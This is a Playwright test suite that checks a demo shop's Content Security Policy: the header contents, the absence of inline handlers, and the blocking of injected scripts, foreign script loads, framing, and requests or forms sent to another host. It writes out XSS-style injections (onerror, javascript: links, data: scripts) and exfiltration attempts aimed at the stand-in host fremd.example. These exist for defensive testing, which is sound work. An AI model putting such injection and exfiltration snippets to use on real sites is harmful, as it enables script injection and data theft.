import { createHash } from "node:crypto";
import { readdirSync, readFileSync, realpathSync } from "node:fs";
import { join } from "node:path";
import { expect, type Page } from "@playwright/test";
import { followLink, isSameDocument, markDocument, open, openHydrated } from "../support/browsing.ts";
import { test } from "../support/journey.ts";
import { allTemplatePages } from "../support/pages.ts";
import { smoke } from "../support/selection.ts";
import { shopAddress } from "../support/sites.ts";

declare global {
	interface Window {
		/** The requests that the page's policy refused: directive and address. */
		refused: string[];
		/** Set by scripts that must not run. */
		intruder?: boolean;
	}
}

const checkout = "/shop/kasse";

test.beforeEach(async ({ page }) => {
	await page.addInitScript(() => {
		window.refused = [];
		addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) => {
			window.refused.push(`${effectiveDirective} ${blockedURI} ${sample}`.trim());
		});
	});
});

const refused = (page: Page) => page.evaluate(() => window.refused);
const intruded = (page: Page) => page.evaluate(() => window.intruder === true);

/** Adds a script of another host to the page; returns whether the browser requested it. */
async function addForeignScript(page: Page, address: string): Promise<boolean> {
	let asked = false;
	await page.route(address, (route) => {
		asked = true;
		return route.fulfill({ contentType: "text/javascript", body: "window.intruder = true;" });
	});
	await page.evaluate(
		(src) =>
			new Promise<void>((resolve) => {
				const script = Object.assign(document.createElement("script"), { src });
				for (const end of ["load", "error"]) script.addEventListener(end, () => resolve());
				document.head.append(script);
			}),
		address,
	);
	return asked;
}

const matomo = "https://statistik.juwelier-sternau.example";

/** The hosts in the demo shop's configuration and content, by directive. */
const hosts = {
	"script-src": [matomo],
	"img-src": [matomo],
	"connect-src": ["127.0.0.1:4310", matomo],
	"frame-src": ["https://www.openstreetmap.org", matomo],
	"form-action": ["mailto:"],
};

/** The hosts of payment providers, allowed only in the checkout. */
const providers = ["paypal.com", "paypalobjects.com"];

/** The demo shop does not offer Klarna in the checkout. */
const notOffered = ["klarnacdn.net", "klarna.com", "klarnaevt.com"];

/** Returns the hosts of a policy by directive, without those of payment providers. */
function hostsIn(policy: string): Readonly<Record<string, readonly string[]>> {
	const directives = policy.split("; ").map((directive) => {
		const [name = "", ...sources] = directive.split(" ");
		const named = sources.filter((source) => !source.startsWith("'") && source !== "data:");
		return [name, named.filter((host) => !providers.some((one) => host.endsWith(`.${one}`)))] as const;
	});
	return Object.fromEntries(directives.filter(([, named]) => named.length > 0));
}

// console.spec.ts proves that each page works within its policy, because violations are console errors.
test(
	"B-SEC-01 serves every template with its policy: configured hosts, and payment providers at the checkout only",
	smoke,
	async ({ request }) => {
		for (const [, path] of allTemplatePages) {
			const response = await request.get(path);
			const policy = response.headers()["content-security-policy"] ?? "";
			expect(policy, path).toContain(
				"object-src 'none'; base-uri 'none'; form-action 'self' mailto:; frame-ancestors 'none'",
			);
			expect(policy, path).toMatch(/script-src 'self'(?: 'sha256-[\w+/]+=')*(?: https:\/\/[\w.*-]+)*;/);
			expect(hostsIn(policy), path).toEqual(hosts);
			for (const provider of providers) expect(policy.includes(provider), path).toBe(path === checkout);
			for (const provider of notOffered) expect(policy, path).not.toContain(provider);
		}
	},
);

test("B-SEC-01 serves no document with inline handlers, executable addresses or scripts unknown to its policy", () => {
	const root = realpathSync("dist/test/site-a");
	const [, policy = ""] = /script-src ([^;]+);/.exec(readFileSync(join(root, "_headers"), "utf8")) ?? [];
	const isKnown = (text: string) =>
		policy.includes(`'sha256-${createHash("sha256").update(text).digest("base64")}'`);
	const files = readdirSync(root, { recursive: true, encoding: "utf8" }).filter((name) =>
		name.endsWith(".html"),
	);
	expect(files.length).toBeGreaterThan(100);
	for (const file of files) {
		const html = readFileSync(join(root, file), "utf8");
		const inline = [...html.matchAll(/<script([^>]*)>(.*?)<\/script>/gis)]
			.filter(([, attributes = ""]) => !/ src="\/assets\/| type="application\/ld\+json"/.test(attributes))
			.flatMap(([, , text = ""]) => (isKnown(text) ? [] : [text]));
		const running = (html.match(/<[a-z][^>]*>/gi) ?? []).filter((tag) =>
			/\son[a-z]+=|=\s*["']?\s*javascript:|^<(?:style|base|object|embed)/i.test(tag),
		);
		expect([file, ...inline, ...running]).toEqual([file]);
	}
});

test("B-SEC-01 keeps drawers and external contents within the policy, whatever the first page was", async ({
	page,
}) => {
	await page.route(/openstreetmap|statistik\./, (route) =>
		route.fulfill({ contentType: "text/html", body: "<p>Karte</p>" }),
	);
	await openHydrated(page, "/");
	await page.getByRole("banner").getByRole("button").first().click();
	await expect(page.getByRole("dialog")).toBeVisible();
	await page.keyboard.press("Escape");
	await markDocument(page);
	await followLink(page, "/kontakt");
	await page.getByRole("button", { name: "Inhalt laden" }).click();
	await expect(page.frameLocator("main iframe").getByText("Karte")).toBeVisible();
	expect(await isSameDocument(page)).toBe(true);
	expect(await refused(page)).toEqual([]);
});

test("B-SEC-01 runs no injected script and loads none from another host", async ({ page }) => {
	for (const path of ["/", checkout]) {
		await open(page, path);
		await page.evaluate(() => {
			const run = "window.intruder = true";
			document.head.append(Object.assign(document.createElement("script"), { textContent: run }));
			document.body.insertAdjacentHTML(
				"beforeend",
				`<img src="/fehlt.png" onerror="${run}" alt=""><a id="intruder" href="javascript:${run}">x</a>`,
			);
			document.querySelector<HTMLAnchorElement>("#intruder")?.click();
		});
		await expect.poll(async () => (await refused(page)).length).toBeGreaterThanOrEqual(3);
		expect(await addForeignScript(page, "https://fremd.example/script.js")).toBe(false);
		expect(await addForeignScript(page, "data:text/javascript,window.intruder=true")).toBe(false);
		expect(await intruded(page)).toBe(false);
		expect((await refused(page)).filter((line) => line.startsWith("script-src"))).toHaveLength(5);
	}
});

test("B-SEC-01 sends no typed data to another host, by request, form or base address", async ({ page }) => {
	await open(page, "/kontakt");
	const outcome = await page.evaluate(async () => {
		const sent = await fetch("https://fremd.example/", { method: "POST", mode: "no-cors", body: "x" }).then(
			() => true,
			() => false,
		);
		const form = Object.assign(document.createElement("form"), {
			action: "https://fremd.example/",
			method: "post",
		});
		document.body.append(form);
		form.submit();
		document.head.append(Object.assign(document.createElement("base"), { href: "https://fremd.example/" }));
		return { sent, base: document.baseURI };
	});
	expect(outcome).toEqual({ sent: false, base: `${shopAddress}/kontakt` });
	await expect
		.poll(async () => (await refused(page)).map((line) => line.split(" ")[0]).sort())
		.toEqual(["base-uri", "connect-src", "form-action"]);
});

test("B-SEC-01 cannot be framed by another site", async ({ page }) => {
	const stranger = "http://fremd.example/";
	await page.route(stranger, (route) =>
		route.fulfill({ contentType: "text/html", body: `<iframe src="${shopAddress}/kontakt"></iframe>` }),
	);
	await page.goto(stranger);
	// The browser's own error page.
	await expect.poll(() => page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
});

test("B-SEC-01 allows payment providers at the checkout only, which is a separate document", async ({
	page,
}) => {
	const paypal = "https://www.paypal.com/sdk/js";
	await open(page, "/shop/warenkorb");
	await markDocument(page);
	expect(await addForeignScript(page, paypal)).toBe(false);
	expect(await intruded(page)).toBe(false);

	await followLink(page, checkout);
	await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
	await expect.poll(() => isSameDocument(page)).toBe(false);
	await open(page, checkout);
	expect(await addForeignScript(page, paypal)).toBe(true);
	expect(await intruded(page)).toBe(true);
	expect(await refused(page)).toEqual([]);

	// Nothing has to be reloaded on the way out.
	await markDocument(page);
	await followLink(page, "/shop");
	expect(await isSameDocument(page)).toBe(true);
});
